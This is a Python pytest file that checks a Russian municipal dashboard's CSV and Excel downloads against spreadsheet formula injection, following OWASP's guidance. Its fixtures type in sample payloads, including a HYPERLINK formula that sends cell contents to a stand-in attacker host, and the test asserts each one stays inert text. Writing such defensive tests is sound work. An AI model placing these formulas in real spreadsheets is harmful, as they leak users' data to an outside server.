"""Every file the product offers for download — the dashboard's tables, «Данные и история» (each tab), the
meeting pack, the ministry workbook, the Excel blank — taken from the page's own download buttons
(AppTest), with text typed by people that a spreadsheet would run: it stays text (OWASP CSV Injection:
a cell starting with = + - @ TAB CR is prefixed with «'» in a CSV and carries Excel's quotePrefix in a
workbook), in openpyxl and in LibreOffice. A CSV opens in Russian Excel as columns: «;», UTF-8 with BOM,
decimal comma, numbers bare."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from lib.auth.access import User, write
from lib.domain.present import FORMULA_STARTS, csv_bytes, neutral
from lib.files.xlsx_tables import table_xlsx
from lib.store.sqlite_store import SQLiteStore
from tests.support import libreoffice
from tests.support.downloads import collect
from tests.support.shown import opened

COORDINATOR = User("coordinator@lensk.demo", "Беляев И.А.", "coordinator", None)
# what people type (OWASP's examples and the issue's), one per starting character
TYPED = {"name": '=HYPERLINK("http://evil.example/?"&A1;"ВЭС")', "settlement": "+1 Пеледуй", "decision": "-5 должников: провести сверку",
         "done": "@SUM(A1) проведены сходы", "tab": "\t=1+1", "cr": "\r=1+1"}


@pytest.fixture
def district(demo_store_url, monkeypatch):
    store = SQLiteStore(demo_store_url[len("sqlite:///"):])
    snap = store.read_all()
    ves, peleduy = snap.record("participants", id="ves"), snap.record("participants", id="peleduy")
    write(store, COORDINATOR, {"participants": [{**ves, "name": TYPED["name"]}, {**peleduy, "name": TYPED["settlement"]}]})
    meeting = snap.current("meetings").iloc[-1].meeting_id
    write(store, COORDINATOR, {"decisions": [{"decision_id": "dec-owasp", "meeting_id": meeting, "text": TYPED["decision"],
                                              "responsible_id": "ves", "due_date": dt.date(2024, 12, 20), "status": "open"}]})
    write(store, User("ves@lensk.demo", "ВЭС", "executor", "ves"), {"plan_progress": [
        {"measure_id": f"2023/2024-{n}", "participant_id": "ves", "period": "2024-Q4", "status": "done", "done_text": TYPED[k]}
        for n, k in ((3, "done"), (4, "tab"), (5, "cr"))]})
    return store


@pytest.fixture
def downloads(monkeypatch):
    """file name -> the bytes a click on its download button gives (eager data or the page's own callable)."""
    return collect(monkeypatch)


def page(login: str, path: str, state: dict | None = None):
    at = opened(login, path, state)
    assert not at.exception, [e.value for e in at.exception]
    return at


def every_file(downloads) -> dict[str, bytes]:
    """Open each page as its user and collect every download it offers."""
    files = {}
    page("commission@lensk.demo", "pages/dashboard.py")
    files.update(downloads())
    at = page("coordinator@lensk.demo", "pages/data.py")
    for title in at.selectbox(key="data_tab").options:
        at.selectbox(key="data_tab").select(title).run()
    files.update(downloads())
    page("coordinator@lensk.demo", "pages/commission.py", {"commission_tab": "Материалы к заседанию",
                                                         "pack_date": "20.01.2025"})
    files.update(downloads())
    at = page("coordinator@lensk.demo", "pages/export.py", {"export_quarter": "2024-Q4"})
    at.button(key="export_build").click().run()
    files.update(downloads())
    page("ves@lensk.demo", "pages/entry.py", {"entry_month": "2024-12"})
    files.update(downloads())
    return files


QUALITY = "Качество данных"
QUALITY_FILE = f"{QUALITY} 2024-01–2024-12.xlsx"


def dangerous_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]


@pytest.mark.e2e  # LibreOffice or processes of its own: the end-to-end set
def test_every_download_keeps_typed_formulas_as_text(district, downloads, tmp_path):
    files = every_file(downloads)
    # every file costs a build (a workbook, a CSV of a whole tab): none is built on a rerun, only on a click
    assert set(files) <= downloads.built_on_click, sorted(set(files) - downloads.built_on_click)
    workbooks = {n: d for n, d in files.items() if n.endswith(".xlsx")}
    tables = {n: d for n, d in files.items() if n.endswith(".csv")}
    # the page's own buttons: seven tables of «Свод», one CSV per tab, the pack (Excel, print), the workbook, the blank
    assert {f"{t} 2024-01–2024-12.xlsx" for t in ("Поселения — долг и рост", "Организации ЖКК — долг и рост", "Сдача отчётов",
                                                  "Не выполнено или просрочено", "Просроченные поручения комиссии",
                                                  "Риск исковой давности", QUALITY)} | {
            "заседание-2025-01-20.xlsx", "заседание-2025-01-20.html",
            "Ленский район — задолженность ЖКУ — 4 квартал 2024.xlsx"} <= set(files), sorted(files)
    assert [n for n in files if n.startswith("Бланк отчёта ") and n.endswith(" 2024-12.xlsx")], sorted(files)  # the organisation's name
    assert {"Участники", "Ежемесячный отчёт", "Исполнение плана", "Решения и поручения", "Журнал изменений", "Пользователи"} <= \
        {n.rsplit(" ", 1)[0] for n in tables}
    tables = {n.rsplit(" ", 1)[0]: d for n, d in tables.items()}  # by the tab's title, whatever the period
    for name, data in workbooks.items():
        cells = dangerous_cells(data)
        if name != QUALITY_FILE:  # the quality panel names no participant typed as a formula
            assert cells, f"{name}: the typed text is not in the file, the test could not fail"
        for c in cells:
            assert c.data_type == "s" and c.quotePrefix, f"{name}: {c.coordinate} «{c.value[:30]}» would run as a formula"
        formulas = [c.coordinate for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row
                    if c.data_type == "f"]
        assert not formulas, f"{name}: formulas {formulas[:5]}"
    for name, data in tables.items():
        assert data.startswith("\ufeff".encode()), f"{name}: no BOM, Excel would read the Cyrillic as gibberish"
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
        assert rows and len({len(r) for r in rows}) == 1, f"{name}: rows of different lengths"
        for row in rows:
            for field in row:
                assert not field.startswith(FORMULA_STARTS), f"{name}: «{field[:30]}» would run as a formula"
    participants = tables["Участники"].decode("utf-8-sig")
    assert "\"'" + TYPED["name"].replace('"', '""') + '"' in participants and "\"'+1 Пеледуй\"" in participants
    html = files["заседание-2025-01-20.html"].decode("utf-8")
    assert "<html lang='ru'>" in html and "&quot;http://evil.example/?&quot;" in html

    # LibreOffice with a Russian locale: every workbook sheet to CSV shows the text itself; our CSVs open as
    # columns (numbers are numbers) and nothing in them is evaluated
    out = tmp_path / "lo"
    out.mkdir()
    paths = []
    for n, (name, data) in enumerate({**workbooks, "monthly_reports.csv": tables["Ежемесячный отчёт"],
                                      "participants.csv": tables["Участники"],
                                      "plan_progress.csv": tables["Исполнение плана"]}.items()):
        path = out / f"f{n}{name[name.rindex('.'):]}"
        path.write_bytes(data)
        paths.append(path)
    libreoffice.convert([p for p in paths if p.suffix == ".xlsx"], libreoffice.CSV_ALL_SHEETS, out)
    shown = "\n".join(p.read_text(encoding="utf-8") for p in out.glob("f*-*.csv")) + "\n".join(
        p.read_text(encoding="utf-8") for p in out.glob("f*.csv") if "-" not in p.stem)
    assert "=HYPERLINK(" in shown and "@SUM(A1) проведены сходы" in shown and "-5 должников" in shown
    assert "#NAME" not in shown and "Err:" not in shown and "#ЗНАЧ" not in shown
    reopened = out / "csv"
    reopened.mkdir()
    libreoffice.convert([p for p in paths if p.suffix == ".csv"], "xlsx", reopened, infilter=libreoffice.CSV_RUSSIAN_IN)
    opened = sorted(reopened.glob("*.xlsx"))
    assert len(opened) == 3, opened
    numbers_seen = 0
    for path in opened:
        ws = load_workbook(path).active
        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"], path.name
        header = [c.value for c in ws[1]]
        assert len(header) > 3, f"{path.name}: not split into columns"
        if "Начислено" in header:  # the monthly report: figures came through as numbers, not text
            column = header.index("Начислено") + 1
            values = [ws.cell(r, column).value for r in range(2, min(ws.max_row, 50))]
            assert values and all(isinstance(v, int | float) for v in values if v is not None), values[:5]
            numbers_seen += 1
    assert numbers_seen == 1


def test_the_neutralising_rule_itself():
    """OWASP's list, and nothing else changed: a number stays a number, a hyphen inside stays."""
    for start in FORMULA_STARTS:
        assert neutral(f"{start}1+1") == f"'{start}1+1"
    assert neutral("ООО «ЛПТЭС» — 5 %") == "ООО «ЛПТЭС» — 5 %" and neutral("") == ""
    import pandas as pd

    frame = pd.DataFrame({"Текст": ["=1+1", "\t=1+1", "обычный"], "Сумма, тыс. руб.": [-1234.56, 0.04, None]})
    text = csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert text == ['"Текст";"Сумма, тыс. руб."', "\"'=1+1\";-1234,6", "\"'\t=1+1\";0,0", '"обычный";']
    ws = load_workbook(io.BytesIO(table_xlsx(frame, "Т"))).active
    assert ws["A4"].value == "=1+1" and ws["A4"].data_type == "s" and ws["A4"].quotePrefix  # the text itself, marked
    assert ws["B4"].value == -1234.56 and ws["B4"].number_format == "#,##0.0"
